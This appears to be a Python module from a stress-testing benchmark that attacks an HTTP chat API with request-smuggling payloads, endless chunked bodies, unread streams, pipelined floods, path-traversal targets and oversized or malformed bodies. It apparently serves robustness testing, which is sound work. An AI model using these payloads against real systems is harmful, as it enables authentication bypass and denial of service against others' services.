"""Attacks on HTTP itself: bytes that two parsers read in two ways, requests that cost more than they say."""

import json
import random
import time
from collections.abc import Callable
from contextlib import suppress

from benchmarks.siege.attack import AUTHORIZATION, Attack
from benchmarks.siege.bodies import CHAT, chat

KEY = f"Authorization: {AUTHORIZATION}\r\n"
# What a front server may take for a body and this one for a request, or the other way round.
HIDDEN = "GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n"
SHAPES = [
    f"POST {CHAT} HTTP/1.1\r\nHost: x\r\n{KEY}{framing}\r\n\r\n{body}"
    for framing, body in [
        ("Content-Length: 5\r\nTransfer-Encoding: chunked", "0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked\r\nContent-Length: 5", "0\r\n\r\n" + HIDDEN),
        ("Content-Length: 0\r\nContent-Length: 44", HIDDEN),
        ("Content-Length: +44", HIDDEN),
        ("Content-Length: 4 4", HIDDEN),
        ("Content-Length: -1", HIDDEN),
        ("Content-Length: 18446744073709551617", HIDDEN),
        ("Content-Length : 0", HIDDEN),
        (" Content-Length: 0", HIDDEN),
        ("X: y\r\n Content-Length: 44", HIDDEN),
        ("X: y\rContent-Length: 44", HIDDEN),
        ("Transfer-Encoding: xchunked", "0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked, identity", "0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding:\x0bchunked", "0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked", "0x0\r\n\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked", "ffffffffffffffff1\r\n" + HIDDEN),
        ("Transfer-Encoding: chunked", "0\n\n" + HIDDEN),
        ("Transfer-Encoding: chunked", "0;" + "e" * 100_000 + "\r\n\r\n"),
        ("Transfer-Encoding: chunked", "0\r\n" + "T: railer\r\n" * 20_000 + "\r\n"),
        ("Content-Length: 0\r\n\x00: y", HIDDEN),
    ]
]


def smuggle(attack: Attack) -> None:
    """A request hidden in another one's body has no key of its own: an answer of 200 is told as such."""

    def send(index: int) -> None:
        with attack.connect() as client:
            client.sendall(random.choice(SHAPES).encode("latin1"))
            client.settimeout(0.5)
            said = b""
            with suppress(OSError):
                while piece := client.recv(65536):
                    said += piece
            attack.answers[said[9:12].decode("latin1") or "closed"] += 1
            if b" 200 OK" in said:
                attack.answers["BYPASS by a hidden request"] += 1

    attack.together(4, send)


def chunks_without_end(attack: Attack) -> None:
    """A body in chunks of a byte, which never ends, with an extension and without."""

    def trickle(index: int) -> None:
        chunk = b"1;e=f\r\nx\r\n" if index % 2 else b"1\r\nx\r\n"
        with attack.connect() as client:
            client.sendall(
                f"POST {CHAT} HTTP/1.1\r\nHost: x\r\n{KEY}Transfer-Encoding: chunked\r\n\r\n".encode()
            )
            while attack.goes_on:
                client.sendall(chunk * 200)
                time.sleep(0.01)

    attack.together(6, trickle)


def deaf_readers(attack: Attack) -> None:
    """Clients that want long streams and do not read them."""
    raw = json.dumps(
        chat("Tell a story.", stream=True, max_tokens=400, logprobs=True, top_logprobs=20)
    ).encode()
    head = f"POST {CHAT} HTTP/1.1\r\nHost: x\r\n{KEY}Content-Length: {len(raw)}\r\n\r\n".encode()

    def wait(_: int) -> None:
        with attack.connect() as client:
            client.setsockopt(1, 8, 4096)  # SO_RCVBUF
            client.sendall(head + raw)
            time.sleep(3)

    attack.together(4, wait)


def pipelined(attack: Attack) -> None:
    """Thousands of requests at once on one connection, whose answers are not read."""

    def flood(index: int) -> None:
        request = (
            b"GET /health HTTP/1.1\r\nHost: x\r\n\r\n"
            if index % 2
            else b"GET /nothing HTTP/1.1\r\nHost: x\r\n\r\n"
        )
        with attack.connect() as client:
            client.settimeout(1)
            while attack.goes_on:
                client.sendall(request * 10_000)
                attack.num_tried += 9_999

    attack.together(4, flood)


def _requests(make: Callable[[], tuple[str, str, str]], number: int = 4) -> Callable[[Attack], None]:
    """One request after the other: its method, its target, and further lines of its head."""

    def attack_with(attack: Attack) -> None:
        def send(_: int) -> None:
            method, target, lines = make()
            with attack.connect() as client:
                client.sendall(
                    f"{method} {target} HTTP/1.1\r\nHost: x\r\n{lines}Connection: close\r\n\r\n".encode()
                )
                client.settimeout(5)
                said = client.recv(12)
                attack.answers[said[9:12].decode("latin1") or "closed"] += 1
                while client.recv(65536):
                    pass

        attack.together(number, send)

    return attack_with


def _folded() -> tuple[str, str, str]:
    lines = "".join(f"{KEY[:-2]}\r\n {'f' * 200}\r\n" for _ in range(50))
    return (
        "GET",
        random.choice(["/v1/models?" + "q=" * 4000, "/v1/models?" + "%f0" * 5000, "/v1/" + "../" * 5000]),
        (random.choice(["", lines])),
    )


def _upgrade() -> tuple[str, str, str]:
    key = "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    kind = random.choice(["websocket", "h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "TLS/1.0", "x" * 8000])
    return random.choice(["GET", "POST"]), CHAT, f"{KEY}{key}Upgrade: {kind}\r\nConnection: upgrade\r\n"


def _odd_method() -> tuple[str, str, str]:
    target = random.choice(["/health", "/v1/models", CHAT, "*", "/metrics"])
    return random.choice(["HEAD", "OPTIONS", "TRACE", "PROPFIND", "CONNECT", "M-SEARCH"]), target, KEY


def _odd_body(attack: Attack) -> None:
    """Multipart, duplicate names, thousands of them, and names that are hard to write."""
    part = b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\nx\r\n'
    wide = "".join(chr(random.choice([0x202E, 0x1F9D1, 0xFDFA, 0x300, 0x10FFFF])) for _ in range(20_000))
    many = {f"k{index}": index for index in range(60_000)}
    bodies = [
        ("multipart/form-data; boundary=b", part * 40_000 + b"--b--"),
        ("application/x-www-form-urlencoded", b"a=b&" * 500_000),
        ("application/json", json.dumps(chat("x") | many).encode()),
        (
            "application/json",
            b'{"messages":[],' + b'"messages":[{"role":"user","content":"x"}],' * 20_000 + b'"n":1}',
        ),
        (
            "application/json",
            json.dumps(chat("x", user=wide, metadata={wide: wide}), ensure_ascii=False).encode(),
        ),
        ("application/json", json.dumps(chat("x", stop=[wide] * 4, model=wide)).encode()),
        ("application/json; charset=utf-7", b"+AHs-" * 300_000),
    ]

    def send(_: int) -> None:
        kind, raw = random.choice(bodies)
        attack.post(CHAT, raw, 20, {"content-type": kind})

    attack.together(4, send)


WIRE: dict[str, Callable[[Attack], None]] = {
    "smuggled requests": smuggle,
    "chunks without end": chunks_without_end,
    "readers that do not read": deaf_readers,
    "10,000 pings at once": pipelined,
    "long queries, folded lines": _requests(_folded),
    "offers of other protocols": _requests(_upgrade),
    "HEAD, OPTIONS and others": _requests(_odd_method),
    "forms, many and odd names": _odd_body,
}
